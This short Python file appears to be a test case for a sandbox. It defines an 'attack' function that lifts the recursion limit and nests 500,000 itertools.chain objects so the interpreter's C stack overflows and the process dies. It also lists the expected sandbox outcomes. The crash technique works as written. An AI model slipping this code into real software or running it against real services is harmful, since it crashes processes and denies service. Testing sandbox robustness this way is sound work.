"""Overflow the C stack through nested chains with the recursion limit lifted.

Evidence: died
Sandbox: crashed, error, memory, timeout
"""

import itertools
import sys


def attack(target):
    sys.setrecursionlimit(2**31 - 1)
    chain = iter([1])
    for _ in range(500_000):
        chain = itertools.chain(chain)
    return next(chain)
